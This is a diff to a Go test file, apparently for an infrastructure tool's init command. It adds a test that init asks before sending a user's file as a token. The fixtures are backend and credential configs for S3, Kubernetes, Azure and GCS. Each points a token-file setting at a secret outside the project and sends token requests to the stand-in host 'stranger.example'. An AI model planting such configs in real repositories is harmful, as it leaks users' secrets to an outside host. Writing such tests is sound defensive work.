@@ -5,11 +5,13 @@ package install_test
 import (
 	"bytes"
 	"fmt"
+	"io"
 	"net/http"
 	"os"
 	"path/filepath"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"syscall"
 	"testing"
 
@@ -190,6 +192,124 @@ func TestInitRunsNoProgramThatTheDirectoryNames(t *testing.T) {
 			s.remove("ran", "cache")
 			if output, _ := s.run("init"); len(s.tree("ran")) > 0 {
 				t.Errorf("the directory keeps the agreement:\n%s", output)
+			}
+		})
+	}
+}
+
+// senders name, in files of the directory, a file of the user and a service that gets its content.
+var senders = map[string]map[string]string{
+	"s3, block": {"main.tf": `terraform {
+  backend "s3" {
+    bucket      = "b"
+    key         = "k"
+    region      = "eu-central-1"
+    max_retries = 0
+    endpoints   = { sts = "https://stranger.example" }
+    assume_role_with_web_identity = {
+      role_arn                = "arn:aws:iam::1:role/x"
+      web_identity_token_file = "../secret"
+    }
+  }
+}`},
+	"s3, profile": {"main.tf": `terraform {
+  backend "s3" {
+    bucket              = "b"
+    key                 = "k"
+    region              = "eu-central-1"
+    max_retries         = 0
+    shared_config_files = ["./aws"]
+  }
+}`, "aws": "[default]\nrole_arn = arn:aws:iam::1:role/x\nweb_identity_token_file = DIR/secret\n"},
+	"s3, a link": {"main.tf": `terraform {
+  backend "s3" {
+    bucket                   = "b"
+    key                      = "k"
+    region                   = "eu-central-1"
+    max_retries              = 0
+    profile                  = "x"
+    shared_credentials_files = ["DIR/work/aws"]
+  }
+}`, "aws": "[x]\nrole_arn = arn:aws:iam::1:role/x\nWeb_identity_token_file = ./link\n"},
+	"kubernetes": {"main.tf": `terraform {
+  backend "kubernetes" {
+    secret_suffix = "x"
+    config_path   = "./kubectl"
+  }
+}`, "kubectl": `apiVersion: v1
+kind: Config
+clusters: [{name: c, cluster: {server: "https://stranger.example", insecure-skip-tls-verify: true}}]
+contexts: [{name: c, context: {cluster: c, user: u}}]
+current-context: c
+users: [{name: u, user: {tokenFile: ../secret}}]
+`},
+	"azurerm": {"main.tf": `terraform {
+  backend "azurerm" {
+    storage_account_name    = "account"
+    container_name          = "states"
+    key                     = "k"
+    tenant_id               = "00000000-0000-0000-0000-000000000001"
+    client_id               = "00000000-0000-0000-0000-000000000002"
+    use_azuread_auth        = true
+    metadata_host           = "stranger.example"
+    client_secret_file_path = "../secret"
+  }
+}`},
+	"gcs": {"main.tf": `terraform {
+  backend "gcs" {
+    bucket      = "b"
+    credentials = "login.json"
+  }
+}`, "login.json": `{"type": "external_account", "audience": "//iam.googleapis.com/x",
+  "token_url": "https://stranger.example", "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
+  "credential_source": {"file": "DIR/secret"}}`},
+}
+
+// A cloned directory may have a file of the user sent to a stranger, as a token. Init asks before.
+func TestInitSendsNoFileThatTheDirectoryNames(t *testing.T) {
+	own := program(t)
+	for name, files := range senders {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			var got atomic.Int64
+			listen := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
+				if strings.Contains(fmt.Sprint(r.Header, r.URL, string(body)), "hunter2") {
+					got.Add(1)
+				}
+				if !strings.Contains(r.URL.Path, "/metadata/") && !strings.Contains(r.URL.Path, "/.well-known/") {
+					w.WriteHeader(http.StatusForbidden)
+				}
+				const here = "https://stranger.example/"
+				const tenant = here + "00000000-0000-0000-0000-000000000001/"
+				fmt.Fprint(w, `{"authentication": {"loginEndpoint": "`+here+`", "audiences": ["x"]}, `+
+					`"resourceManager": "`+here+`", "suffixes": {"storage": "stranger.example"}, "issuer": "`+tenant+
+					`v2.0", "token_endpoint": "`+tenant+`token", "authorization_endpoint": "`+tenant+`authorize"}`)
+			})
+			net := newInternet(t)
+			net.Serve("stranger.example", listen)
+			net.Serve("sts.eu-central-1.amazonaws.com", listen) // a proxy of the block may be in between
+			s := newSite(t, own, net.Net)
+			s.env = append(s.env, "XDG_CACHE_HOME="+filepath.Join(s.dir, "cache"),
+				"AWS_EC2_METADATA_DISABLED=true")
+			s.write("secret", "hunter2")
+			for file, content := range files {
+				s.write("work/"+file, content)
+			}
+			if err := os.Symlink("../secret", filepath.Join(s.dir, "work/link")); err != nil {
+				t.Skipf("needs a system with symbolic links: %s", err)
+			}
+			for _, line := range []string{"init", "init -input=false", "init -reconfigure", "init -json"} {
+				output, code := s.run(strings.Fields(line)...)
+				has(t, output, "was not run", "sends a token of yours")
+				if code != 0 || got.Load() > 0 || strings.Contains(output, "hunter2") {
+					t.Fatalf("%s exits with %d, sent: %d\n%s", line, code, got.Load(), output)
+				}
+			}
+			agree := s.command("init")
+			agree.Stdin = strings.NewReader("yes\n")
+			if output, _ := agree.CombinedOutput(); got.Load() == 0 {
+				t.Errorf("after an agreement nothing is sent:\n%s", output)
 			}
 		})
 	}
